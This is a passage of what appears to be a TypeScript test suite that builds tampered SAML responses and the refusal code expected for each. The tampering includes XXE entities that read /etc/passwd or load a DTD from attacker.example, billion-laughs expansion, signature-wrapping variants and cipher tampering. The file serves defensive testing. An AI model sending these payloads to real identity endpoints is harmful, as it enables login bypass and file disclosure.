  tampered('SA-01', 'the same ID twice', 'message.duplicate_id', (xml) =>
    xml.replace('<samlp:Status>', '<samlp:Extensions><x:y xmlns:x="urn:x" ID="_r1"/></samlp:Extensions><samlp:Status>'),
  ),
  tampered('SA-01', 'the same id in lower case', 'message.duplicate_id', (xml) =>
    xml.replace('<samlp:Status>', '<samlp:Extensions><x:y xmlns:x="urn:x" id="_r1"/></samlp:Extensions><samlp:Status>'),
  ),
  tampered('SA-01', 'the same id as xml:id', 'message.duplicate_id', (xml) =>
    xml.replace(
      '<samlp:Status>',
      '<samlp:Extensions><x:y xmlns:x="urn:x" xml:id="_r1"/></samlp:Extensions><samlp:Status>',
    ),
  ),
  tampered('SA-01', 'the same id in a namespace', 'message.duplicate_id', (xml) =>
    xml.replace(
      '<samlp:Status>',
      '<samlp:Extensions><x:y xmlns:x="urn:x" x:Id="_r1"/></samlp:Extensions><samlp:Status>',
    ),
  ),
  tampered('SA-01', 'another root element', 'message.structure', (xml) => payload(xml), clear),
  tampered('SA-01', 'a LogoutResponse instead', 'message.schema', (xml) =>
    xml.replaceAll('samlp:Response', 'samlp:LogoutResponse'),
  ),
  tampered('SA-01', 'the root in another namespace', 'message.schema', (xml) =>
    xml.replace(
      'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"',
      'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"',
    ),
  ),
  tampered(
    'SA-06',
    'no Issuer in the response',
    (form) => (form.responseSigned ? 'signature.place' : 'issuer'),
    (xml) => xml.replace('<saml:Issuer>https://idp.example/entity</saml:Issuer>', ''),
  ),
  tampered(
    'SA-06',
    'an unsigned response with another issuer',
    'issuer',
    (xml) => xml.replace('https://idp.example/entity', 'https://other.example/'),
    (form) => !form.responseSigned,
  ),
  tampered(
    'SA-06',
    'an unsigned response with another destination',
    'destination',
    (xml) => xml.replace(/Destination="[^"]+"/, 'Destination="https://other.example/acs"'),
    (form) => !form.responseSigned,
  ),
];

// ---- 4. XML: what must be refused before or by the parser

const utf16 = (xml: string): string =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]).toString('base64');
function bytes(id: string, name: string, code: RefusalCode, make: (xml: string) => string): Mutant {
  return { id, name, code, make: (form) => make(responseXml(form.options)) };
}

const doctype = (subset: string): string => `<!DOCTYPE samlp:Response [${subset}]>`;
const nested = (depth: number): string => '<x:n>'.repeat(depth) + '</x:n>'.repeat(depth);
const extension = (inner: string): string =>
  `<samlp:Extensions><x:e xmlns:x="urn:x">${inner}</x:e></samlp:Extensions><samlp:Status>`;

const xmlMutants: Mutant[] = [
  tampered(
    'SA-02',
    'a comment that cuts the NameID',
    'message.comment',
    (xml) => xml.replace('u-4711', 'u<!---->-4711'),
    clear,
  ),
  tampered('SA-02', 'a comment that cuts the issuer', 'message.comment', (xml) =>
    xml.replace('/entity<', '/en<!-- -->tity<'),
  ),
  tampered(
    'SA-02',
    'a comment in the digest',
    'message.comment',
    digestText((d) => `<!--x-->${d}`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a comment in an attribute value',
    'message.comment',
    (xml) => xml.replace('ada@acme', 'ada@<!-- -->acme'),
    clear,
  ),
  tampered(
    'SA-02',
    'a CDATA section in the NameID',
    'message.cdata',
    (xml) => xml.replace('u-4711', '<![CDATA[u-4711]]>'),
    clear,
  ),
  tampered(
    'SA-02',
    'a CDATA section in the digest',
    'message.cdata',
    digestText((d) => `<![CDATA[${d}]]>`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a CDATA section in an attribute value',
    'message.cdata',
    (xml) => xml.replace('ada@acme', '<![CDATA[ada@]]>acme'),
    clear,
  ),
  tampered(
    'SA-02',
    'a processing instruction in the NameID',
    'message.processing_instruction',
    (xml) => xml.replace('u-4711', 'u<?x y?>-4711'),
    clear,
  ),
  tampered(
    'SA-02',
    'a processing instruction in the digest',
    'message.processing_instruction',
    digestText((d) => `<?x?>${d}`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a processing instruction before the root',
    'message.processing_instruction',
    (xml) => `<?xml-stylesheet href="https://attacker.example/"?>${xml}`,
  ),
  tampered('SA-02', 'a comment before the root', 'message.comment', (xml) => `<!-- -->${xml}`),
  tampered('SA-02', 'a comment after the root', 'message.comment', (xml) => `${xml}<!-- -->`),
  tampered('SA-02', 'a comment in an unsigned place', 'message.comment', (xml) =>
    xml.replace('<samlp:Status>', '<!-- --><samlp:Status>'),
  ),
  tampered('SA-03', 'an empty DOCTYPE', 'message.doctype', (xml) => `<!DOCTYPE samlp:Response>${xml}`),
  tampered(
    'SA-03',
    'an external entity',
    'message.doctype',
    (xml) => doctype('<!ENTITY x SYSTEM "file:///etc/passwd">') + xml.replace('/entity<', '/&x;<'),
  ),
  tampered(
    'SA-03',
    'an external parameter entity',
    'message.doctype',
    (xml) => doctype('<!ENTITY % x SYSTEM "https://attacker.example/x.dtd">%x;') + xml,
  ),
  tampered(
    'SA-03',
    'billion laughs',
    'message.doctype',
    (xml) =>
      doctype('<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">') +
      xml.replace('/entity<', '/&c;<'),
  ),
  tampered(
    'SA-03',
    'a DOCTYPE with an ATTLIST that makes an ID',
    'message.doctype',
    (xml) => doctype('<!ATTLIST saml:Assertion other ID #IMPLIED>') + xml,
  ),
  tampered('SA-03', 'a DOCTYPE in lower case', 'message.doctype', (xml) => `<!doctype samlp:Response>${xml}`),
  tampered(
    'SA-03',
    'a DOCTYPE behind the XML declaration',
    'message.doctype',
    (xml) => `<?xml version="1.0"?>\n<!DOCTYPE x>${xml}`,
  ),
  tampered('SA-03', 'an undeclared entity', 'message.not_well_formed', (xml) => xml.replace('/entity<', '/&x;<')),
  tampered('SA-03', 'an HTML entity', 'message.not_well_formed', (xml) => xml.replace('/entity<', '/&nbsp;<')),
  tampered(
    'SA-03',
    'an XML declaration of another encoding',
    'message.processing_instruction',
    (xml) => `<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`,
  ),
  tampered(
    'SA-03',
    'an XML declaration of UTF-7',
    'message.processing_instruction',
    (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`,
  ),
  tampered('SA-03', 'XML 1.1', 'message.processing_instruction', (xml) => `<?xml version="1.1"?>${xml}`),
  tampered(
    'SA-03',
    'two XML declarations',
    'message.processing_instruction',
    (xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`,
  ),
  tampered('SA-03', 'a null byte', 'message.not_well_formed', (xml) => xml.replace('/entity<', '/en\u0000tity<')),
  tampered('SA-03', 'a null byte after the root', 'message.not_well_formed', (xml) => `${xml}\u0000<x/>`),
  tampered('SA-03', 'a forbidden control character', 'message.not_well_formed', (xml) =>
    xml.replace('/entity<', '/en\u0001tity<'),
  ),
  tampered('SA-03', 'a reference to a forbidden character', 'message.not_well_formed', (xml) =>
    xml.replace('/entity<', '/en&#0;tity<'),
  ),
  tampered('SA-03', 'a byte order mark', 'message.charset', (xml) => `\ufeff${xml}`),
  tampered('SA-03', 'text after the root', 'message.not_well_formed', (xml) => `${xml}x`),
  tampered(
    'SA-03',
    'two roots',
    'message.not_well_formed',
    (xml) => xml + xml.replaceAll('_r1', '_r2').replaceAll('_a1', '_a2'),
  ),
  tampered('SA-03', 'an attribute given twice', 'message.not_well_formed', (xml) =>
    xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"'),
  ),
  tampered('SA-03', 'one attribute by two prefixes', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<x:a xmlns:p="urn:p" xmlns:q="urn:p" p:b="1" q:b="2"/>')),
  ),
  tampered('SA-03', 'an undeclared prefix', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<zz:a/>')),
  ),
  tampered('SA-03', 'a relative namespace', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<a xmlns="../x"/>')),
  ),
  tampered('SA-03', 'what a parser only warns of', 'message.not_well_formed', (xml) =>
    xml.replace('<samlp:Status>', extension('<x:a xml:space="perhaps"/>')),
  ),
  tampered(
    'SA-03',
    'a character that only one of two parsers takes for the end of a line',
    'message.ambiguous',
    (xml) => xml.replace('<samlp:Status>', extension('a\u2028b')),
  ),
  tampered('SA-03', 'an element without a namespace', 'message.namespace', (xml) =>
    xml.replace('<samlp:Status>', extension('<a/>')),
  ),
  tampered('SA-03', 'xsi:schemaLocation', 'message.schema', (xml) =>
    xml.replace(
      '<samlp:Status>',
      extension(
        '<x:a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x https://attacker.example/x.xsd"/>',
      ),
    ),
  ),
  tampered('SA-03', 'cut off in the middle', 'message.not_well_formed', (xml) =>
    xml.slice(0, Math.floor(xml.length / 2)),
  ),
  bytes('SA-03', 'UTF-16', 'message.charset', utf16),
  bytes('SA-03', 'UTF-16 without a byte order mark', 'message.not_well_formed', (xml) =>
    Buffer.from(xml, 'utf16le').toString('base64'),
  ),
  bytes('SA-03', 'Latin-1', 'message.charset', (xml) =>
    Buffer.from(xml.replace('/entity<', '/entit\u00e9<'), 'latin1').toString('base64'),
  ),
  bytes('SA-03', 'an overlong UTF-8 form', 'message.charset', (xml) =>
    Buffer.concat([Buffer.from(xml), Buffer.from([0xc0, 0xbc])]).toString('base64'),
  ),
  bytes('SA-03', 'a surrogate in UTF-8', 'message.charset', (xml) =>
    Buffer.concat([Buffer.from(xml), Buffer.from([0xed, 0xa0, 0x80])]).toString('base64'),
  ),
  bytes('SA-03', 'nothing', 'message.encoding', () => ''),
  bytes('SA-03', 'no base64', 'message.encoding', (xml) => xml),
  bytes('SA-03', 'base64 with spaces', 'message.encoding', (xml) => encodePost(xml).replace(/(.{76})/g, '$1 ')),
  bytes('SA-03', 'base64 after a tab', 'message.encoding', (xml) => `\t${encodePost(xml)}`),
  bytes('SA-03', 'base64 with characters in between', 'message.encoding', (xml) => `*${encodePost(xml)}`),
  bytes(
    'SA-03',
    'base64 without its padding',
    'message.encoding',
    (xml) => encodePost(`${xml}${' '.repeat(3 - (xml.length % 3 || 3) + 1)}`).replace(/=+$/, '') + '=x',
  ),
  bytes('SA-03', 'URL-safe base64', 'message.encoding', (xml) => `${encodePost(xml)}-_`),
  bytes(
    'SA-03',
    'base64 followed by more',
    'message.encoding',
    (xml) => `${encodePost(`${xml}  `.slice(0, xml.length + 2 - ((xml.length + 1) % 3)))}====`,
  ),
  bytes('SA-03', 'deflated instead of plain', 'message.charset', () =>
    Buffer.from([0x7d, 0x52, 0xcb, 0x6e, 0xdb, 0x30]).toString('base64'),
  ),
  tampered('SA-10', 'nested 70 deep', 'message.limits', (xml) => xml.replace('<samlp:Status>', extension(nested(70)))),
  tampered('SA-10', 'nested 10,000 deep', 'message.limits', (xml) =>
    xml.replace('<samlp:Status>', extension(nested(10_000))),
  ),
  tampered('SA-10', '20,001 elements', 'message.limits', (xml) =>
    xml.replace('<samlp:Status>', extension('<x:n/>'.repeat(20_001))),
  ),
  tampered('SA-10', '65 attributes on one element', 'message.limits', (xml) =>
    xml.replace('<samlp:Status>', extension(`<x:n ${Array.from({ length: 65 }, (_n, i) => `a${i}=""`).join(' ')}/>`)),
  ),
  tampered('SA-10', '4,100 namespaces', 'message.limits', (xml) =>
    xml.replace(
      '<samlp:Status>',
      extension(Array.from({ length: 4100 }, (_n, i) => `<x:n xmlns:a${i}="urn:${i}"/>`).join('')),
    ),
  ),
  tampered('SA-10', '300 KiB', 'message.too_large', (xml) =>
    xml.replace('<samlp:Status>', extension('x'.repeat(300 * 1024))),
  ),
  tampered('SA-10', '10 MiB', 'message.too_large', (xml) =>
    xml.replace('<samlp:Status>', extension('x'.repeat(10 * 1024 * 1024))),
  ),
];

// ---- 5. Encryption

function encrypted(
  id: string,
  name: string,
  code: Mutant['code'],
  options: MessageOptions | (() => MessageOptions),
  expected?: Partial<ResponseOptions>,
  only?: (form: Form) => boolean,
): Mutant {
  return {
    id,
    name,
    code,
    only: (form) => form.encrypted && (only?.(form) ?? true),
    make: (form) =>
      encodePost(responseXml({ ...form.options, ...(typeof options === 'function' ? options() : options) })),
    ...(expected ? { expected } : {}),
  };
}

const inner = (change: (xml: string) => string): MessageOptions => ({ tamperAssertion: change });
const innerSigned = (form: Form): boolean => form.assertionSigned;

const encryptionMutants: Mutant[] = [
  encrypted('SA-05', 'key transport by RSA 1.5', 'encrypted.algorithm', { encrypt: { transport: enc.rsa15 } }),
  encrypted('SA-05', 'RSA 1.5 that calls itself OAEP', 'encrypted', () => ({
    encrypt: {},
    tamperUnsigned: (xml) => {
      const wrapped = publicEncrypt(
        { key: keys.sp().publicKey, padding: constants.RSA_PKCS1_PADDING },
        Buffer.alloc(32),
      ).toString('base64');
      return xml.replace(
        /(<xenc:CipherValue>)[^<]+(<\/xenc:CipherValue><\/xenc:CipherData><\/xenc:EncryptedKey>)/,
        `$1${wrapped}$2`,
      );
    },
  })),
  encrypted('SA-05', 'triple DES', 'encrypted.algorithm', { encrypt: { content: enc.tripleDes } }),
  encrypted('SA-05', 'AES-CBC without permission', 'encrypted.cbc', { encrypt: { content: enc.aes256Cbc } }),
  encrypted(
    'SA-05',
    'AES-CBC by permission, but without an outer signature',
    'encrypted.cbc',
    { encrypt: { content: enc.aes256Cbc } },
    { policy: { allowCbc: true } },
    (form) => !form.responseSigned,
  ),
  encrypted(
    'SA-05',
    'AES-CBC with a changed last block, where it is allowed',
    'encrypted',
    {
      encrypt: {
        content: enc.aes256Cbc,
        tamperCiphertext: (b) => Buffer.concat([b.subarray(0, -16), Buffer.alloc(16)]),
      },
    },
    { policy: { allowCbc: true, failuresAreRateLimited: true } },
  ),
  encrypted('SA-05', 'a content algorithm named constructor', 'encrypted.algorithm', {
    encrypt: { content: 'constructor' },
  }),
  encrypted('SA-05', 'a changed ciphertext', 'encrypted', {
    encrypt: { tamperCiphertext: (b) => Buffer.from(b.map((byte, i) => (i === 40 ? byte ^ 1 : byte))) },
  }),
  encrypted('SA-05', 'a wrong authentication tag', 'encrypted', {
    encrypt: { tamperCiphertext: (b) => Buffer.from(b.map((byte, i) => (i === b.length - 1 ? byte ^ 1 : byte))) },
  }),
  encrypted('SA-05', 'a cut authentication tag', 'encrypted', {
    encrypt: { tamperCiphertext: (b) => b.subarray(0, -1) },
  }),
  encrypted('SA-05', 'an empty ciphertext', 'encrypted', { encrypt: { tamperCiphertext: () => Buffer.alloc(1) } }),
  encrypted('SA-05', 'encrypted to another key', 'encrypted', () => ({
    encrypt: { certificate: keys.attacker().certificate },
  })),
  encrypted('SA-05', 'no decryption key of ours', 'encrypted', {}, { decryptionKeys: [] }),
  encrypted('SA-05', 'five recipients', 'encrypted', () => ({
    encrypt: { otherRecipients: Array(4).fill(keys.attacker().certificate) },
  })),
  encrypted('SA-05', 'a mixture of OAEP hashes', 'encrypted.algorithm', {
    encrypt: {
      transportChildren: `<ds:DigestMethod xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Algorithm="${uri.sha256}"/>`,
    },
  }),
  encrypted('SA-05', 'a label of OAEP', 'encrypted.algorithm', {
    encrypt: { transportChildren: '<xenc:OAEPparams>AAAA</xenc:OAEPparams>' },
  }),
  content('SA-05', 'one attribute encrypted by itself', schemaOr('message.structure'), {
    get attributes() {
      const sealed = encryptAssertion('<saml:Attribute Name="x"/>', { certificate: keys.sp().certificate });
      return `<saml:AttributeStatement>${sealed.replaceAll('EncryptedAssertion', 'EncryptedAttribute')}</saml:AttributeStatement>`;
    },
  }),
  encrypted('SA-05', 'a foreign assertion encrypted to us, unsigned', 'signature.missing', { sign: 'none' }),
  encrypted('SA-05', 'a foreign assertion encrypted to us, signed by the attacker', 'signature.invalid', () => ({
    sign: 'assertion',
    assertionSignature: attacker(),
  })),
  encrypted(
    'SA-05',
    'a plaintext that is no assertion',
    'encrypted',
    inner(() => 'hello'),
  ),
  encrypted(
    'SA-05',
    'a plaintext of two assertions',
    'encrypted',
    inner((xml) => xml + evil()),
  ),
  encrypted(
    'SA-05',
    'a plaintext with text beside the assertion',
    'encrypted',
    inner((xml) => `${xml}x`),
  ),
  encrypted(
    'SA-05',
    'a plaintext that closes its surroundings',
    'encrypted',
    inner((xml) => `${xml}</_lintel:context><_lintel:context>`),
  ),
  encrypted(
    'SA-05',
    'a plaintext with a comment in the NameID',
    'encrypted',
    inner((xml) => xml.replace('u-4711', 'u<!---->-4711')),
  ),
  encrypted(
    'SA-05',
    'a plaintext with CDATA in the NameID',
    'encrypted',
    inner((xml) => xml.replace('u-4711', '<![CDATA[u-4711]]>')),
  ),
  encrypted(
    'SA-05',
    'a plaintext with a processing instruction',
    'encrypted',
    inner((xml) => xml.replace('u-4711', 'u<?x?>-4711')),
  ),
  encrypted(
    'SA-05',
    'a plaintext with a DOCTYPE',
    'encrypted',
    inner((xml) => `<!DOCTYPE x>${xml}`),
  ),
  encrypted(
    'SA-05',
    'a plaintext with a second assertion in Advice',
    'encrypted',
    inner((xml) => xml.replace('<saml:AuthnStatement', `<saml:Advice>${evil()}</saml:Advice><saml:AuthnStatement`)),
  ),
  encrypted('SA-05', 'a plaintext around an EncryptedAssertion', 'encrypted', () =>
    inner((xml) => encryptAssertion(xml, { certificate: keys.sp().certificate })),
  ),
  encrypted('SA-05', 'a plaintext with the id of the response', 'encrypted', { assertionId: '_r1' }),
  encrypted(
    'SA-05',
    'a plaintext against the schema',
    'encrypted',
    inner((xml) => xml.replace('</saml:Conditions>', '<saml:Conditions/></saml:Conditions>')),
  ),
  encrypted(
    'SA-05',
    'a signed value changed before encryption',
    'signature.digest',
    inner((xml) => xml.replace('u-4711', 'admin')),
    undefined,
    innerSigned,
  ),
  encrypted(
    'SA-05',
    'a second SignedInfo in KeyInfo before encryption',
    'encrypted',
    inner((xml) => xml.replace('<ds:KeyInfo>', `<ds:KeyInfo>${hiddenInfo(xml)}`)),
    undefined,
    innerSigned,
  ),
  encrypted('SA-05', 'a stray signature in an attribute before encryption', 'encrypted', () => {
    const stray = buildSignature('47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=', '#_a1', {
      privateKey: keys.idp().privateKey,
    });
    return { attributes: `<saml:AttributeStatement>${attribute('x', [stray])}</saml:AttributeStatement>` };
  }),
  encrypted(
    'SA-05',
    'XSW3 before encryption',
    'encrypted',
    inner((xml) => evil() + xml),
    undefined,
    innerSigned,
  ),
  encrypted(
    'SA-05',
    'XSW4 before encryption',
    'encrypted',
    inner((xml) => insertInto(evil(), '</saml:Assertion>', xml)),
    undefined,
    innerSigned,
  ),
  encrypted(
    'SA-05',
    'XSW8 before encryption',
    'encrypted',
    inner((xml) =>
      evil().replace(
        '</saml:Issuer>',
        `</saml:Issuer>${insertInto(signatureOf(xml), '</ds:Signature>', `<ds:Object>${withoutSignature(xml)}</ds:Object>`)}`,
      ),
    ),
    undefined,
    innerSigned,
  ),
  content('SA-05', 'the NameID encrypted by itself', schemaOr('name_id.encrypted'), {
    get nameId() {
      return encryptAssertion('<saml:NameID>x</saml:NameID>', { certificate: keys.sp().certificate }).replaceAll(
        'saml:EncryptedAssertion',
        'saml:EncryptedID',
      );
    },
  }),
  {
    id: 'SA-05',
    name: 'no encryption where the connection asks for it',
    code: 'encrypted.required',
    only: clear,
    make: (form) => encodePost(responseXml(form.options)),
    expected: { policy: { wantEncrypted: true } },
  },
  {
    id: 'SA-04',
    name: 'no response signature where the connection asks for one',
    code: 'signature.policy',
    only: (form) => !form.responseSigned,
    make: (form) => encodePost(responseXml(form.options)),
    expected: { policy: { wantResponseSigned: true } },
  },
  {
    id: 'SA-04',
    name: 'no assertion signature where the connection asks for one',
    code: 'signature.policy',
    only: (form) => !form.assertionSigned,
    make: (form) => encodePost(responseXml(form.options)),
    expected: { policy: { wantAssertionSigned: true } },
  },
];

// ---- 6. One of two signatures wrong; signatures over other things

const pairMutants: Mutant[] = [
  {
    id: 'SA-04',
    name: 'a good response signature over an assertion signed by another',
    code: 'signature.invalid',
    only: (form) => form.responseSigned,
    make: (form) => encodePost(responseXml({ ...form.options, sign: 'both', assertionSignature: attacker() })),
  },
  {
    id: 'SA-04',
    name: 'a good assertion signature in a response signed by another',
    code: 'signature.invalid',
    only: (form) => form.assertionSigned,
    make: (form) => encodePost(responseXml({ ...form.options, sign: 'both', responseSignature: attacker() })),
  },
  {
    id: 'SA-01',
    name: 'a signature that covers only the Subject',
    code: (form) => (form.encrypted ? 'encrypted' : 'message.schema'),
    make: (form) => {
      const subject = assertionXml().match(/<saml:Subject>[\s\S]*<\/saml:Subject>/)?.[0] ?? '';
      const withId = subject.replace(
        '<saml:Subject>',
        '<saml:Subject xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_sub">',
      );
      const digest = canonicalElement(withId, '_sub');
      const stray = buildSignature(base64(digest).slice(0, 44), '#_sub', { privateKey: keys.idp().privateKey });
      return encodePost(
        responseXml({
          ...form.options,
          sign: 'none',
          tamperAssertion: (xml) => xml.replace(subject, withId.replace('</saml:Subject>', `${stray}</saml:Subject>`)),
        }),
      );
    },
  },
  {
    id: 'SA-01',
    name: 'a signed assertion of another message, its signature intact, in a repeated id',
    code: (form) => (form.encrypted ? 'signature.missing' : 'message.structure'),
    make: (form) => {
      const signed = signElement(assertionXml({}, '_a2'), '_a2', { privateKey: keys.idp().privateKey });
      return encodePost(responseXml({ ...form.options, sign: 'none', ...(form.encrypted ? {} : { trailer: signed }) }));
    },
  },
  {
    id: 'SA-01',
    name: 'nothing signed',
    code: 'signature.missing',
    make: (form) => encodePost(responseXml({ ...form.options, sign: 'none' })),
  },
];

export const mutants: Mutant[] = [
  ...contentMutants,
  ...signatureMutants,
  ...wrappingMutants,
  ...xmlMutants,
  ...encryptionMutants,
  ...pairMutants,
];

export function mutantOptions(mutant: Mutant): ResponseOptions {
  return expectations(mutant.expected ?? {});
}
